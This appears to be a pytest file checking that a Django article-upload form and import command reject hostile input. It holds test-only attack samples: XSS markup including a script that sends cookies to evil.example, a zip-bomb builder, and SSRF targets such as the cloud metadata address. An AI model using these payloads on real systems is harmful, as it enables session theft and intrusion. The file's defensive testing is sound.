"""Hostile input through the upload form and import_articles: a clear answer, never a server error,
never a half-stored article, and accepted text kept exactly as received."""

from __future__ import annotations

import gzip
import io
import socket
import zipfile
from io import StringIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command

from compare.models import Article, Sentence

pytestmark = pytest.mark.django_db

URL = "/articles/new/"
LONG_SENTENCE = "The council said " + ", and ".join(f"item {n} was approved" for n in range(3000)) + "."
HOSTILE_HTML = """<html><head><title>Storm</title><script>alert('head')</script></head>
<body onload="alert('body')"><article><h1>Storm shuts Valletta port</h1>
<p>Gale-force winds closed the harbour in Valletta on Tuesday, the port authority said.</p>
<p><img src="x" onerror="alert('img')">Ferries to Gozo were cancelled until
<a href="javascript:alert(1)">Wednesday</a>.</p>
<script>document.location='http://evil.example/'+document.cookie</script>
<p>Officials wrote &lt;script&gt;alert("text")&lt;/script&gt; in their notice.</p></article></body></html>"""


def zip_bomb() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("index.html", b"<p>" + b"A" * 50_000_000 + b"</p>")
    return buffer.getvalue()


def upload(client, name: str, content: bytes):
    return client.post(URL, {"outlet": "Hostile", "file": SimpleUploadedFile(name, content), "story": "new"})


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("empty.txt", b"", "The submitted file is empty"),
        ("huge.txt", b"The storm closed the harbour. " * 700_000, "the limit is 2 MB"),
        ("binary.txt", bytes(range(256)) * 64, "binary file"),
        ("bomb.html", zip_bomb(), "binary file"),
        ("gzip.html", gzip.compress(b"<p>" + b"A" * 5_000_000 + b"</p>"), "binary file"),
    ],
)
def test_the_form_refuses_bad_files_clearly_and_stores_nothing(editor_client, name, content, message):
    response = upload(editor_client, name, content)
    assert response.status_code == 200
    assert message in response.content.decode()
    assert not Article.objects.exists()


def test_5000_sentences_are_refused_with_the_reason(editor_client, distinct_sentences):
    response = upload(editor_client, "many.txt", distinct_sentences(5000).encode())
    assert "The text has 5,000 sentences; an article may have at most 2,000" in response.content.decode()
    assert not Article.objects.exists()


def test_20_mb_of_pasted_text_gets_a_clear_answer(editor_client):
    response = editor_client.post(URL, {"outlet": "Hostile", "text": "x " * 10_000_000})
    assert response.status_code == 413
    assert "too large" in response.content.decode()
    assert not Article.objects.exists()


def test_invalid_utf8_is_read_as_a_legacy_encoding_and_kept(editor_client):
    raw = "Caf\xe9 owners in N\xeemes protested on Monday against the new tax.".encode("latin-1")
    response = upload(editor_client, "latin.txt", raw)
    assert response.status_code == 302
    assert Article.objects.get().raw_text == raw.decode("cp1252")


def test_utf16_is_read(editor_client):
    text = "Dockers in Le Havre walked out on Friday over pensions, the union said."
    assert upload(editor_client, "utf16.txt", text.encode("utf-16")).status_code == 302
    assert Article.objects.get().raw_text == text


def test_a_single_50000_character_sentence_is_refused_with_the_reason(editor_client):
    assert len(LONG_SENTENCE) > 50_000
    response = editor_client.post(URL, {"outlet": "Hostile", "text": LONG_SENTENCE})
    assert response.status_code == 200
    assert (
        "Sentence 1 is 82,902 characters long; a sentence may have at most 5,000."
        in response.content.decode()
    )
    assert not Article.objects.exists()


def test_the_preview_refuses_it_too(editor_client):
    response = editor_client.post("/articles/preview/", {"outlet": "Hostile", "text": LONG_SENTENCE})
    assert response.status_code == 200
    assert "a sentence may have at most 5,000" in response.content.decode()


def test_the_preview_refuses_too_many_sentences(editor_client, distinct_sentences):
    response = editor_client.post(
        "/articles/preview/", {"outlet": "Hostile", "text": distinct_sentences(2500)}
    )
    assert "The text has 2,500 sentences; an article may have at most 2,000" in response.content.decode()


def test_script_and_event_handler_markup_never_reaches_the_page(editor_client):
    response = upload(editor_client, "hostile.html", HOSTILE_HTML.encode())
    assert response.status_code == 302
    article = Article.objects.get()
    assert article.raw_html == HOSTILE_HTML
    assert "Ferries to Gozo" in article.cleaned_text
    page = editor_client.get(response["Location"]).content.decode()
    assert "alert(" not in page.replace("alert(&quot;text&quot;)", "")
    assert "onerror" not in page and "onload" not in page and "javascript:" not in page
    assert "&lt;script&gt;" in page


def test_a_private_address_is_refused_before_any_connection(editor_client, monkeypatch):
    def no_connections(*args, **kwargs):
        raise AssertionError("a connection was opened")

    monkeypatch.setattr(socket, "create_connection", no_connections)
    monkeypatch.setattr(socket.socket, "connect", no_connections)
    for url in ["http://10.1.2.3/story", "http://169.254.169.254/latest/meta-data", "http://[::1]:8000/"]:
        response = editor_client.post(URL, {"outlet": "Hostile", "url": url, "fetch_url": "on"})
        assert response.status_code == 200
        assert "private or local address" in response.content.decode()
    assert not Article.objects.exists()


def test_import_articles_survives_a_batch_of_hostile_files(tmp_path, distinct_sentences):
    files = {
        "empty.txt": b"",
        "huge.txt": b"The storm closed the harbour. " * 700_000,
        "binary.txt": bytes(range(256)) * 64,
        "bomb.html": zip_bomb(),
        "many.txt": distinct_sentences(5000).encode(),
        "latin.txt": "Caf\xe9 owners in N\xeemes protested on Monday.".encode("latin-1"),
        "utf16.txt": "Dockers in Le Havre walked out on Friday over pensions.".encode("utf-16"),
        "long.txt": LONG_SENTENCE.encode(),
        "hostile.html": HOSTILE_HTML.encode(),
    }
    for name, content in files.items():
        (tmp_path / name).write_bytes(content)
    out, err = StringIO(), StringIO()
    call_command("import_articles", str(tmp_path), "--no-progress", stdout=out, stderr=err)
    assert "3 imported, 0 skipped as duplicates, 6 rejected" in out.getvalue()
    report = err.getvalue()
    assert "empty.txt: The file is empty." in report
    assert "binary.txt: This looks like a binary file" in report
    assert "bomb.html: This is a binary file" in report
    assert "many.txt: The text has 5,000 sentences" in report
    assert "huge.txt: " in report
    assert "long.txt: Sentence 1 is 82,902 characters long" in report
    assert Article.objects.filter(status=Article.Status.DONE).count() == 3
    assert not Sentence.objects.filter(article__status=Article.Status.FAILED).exists()
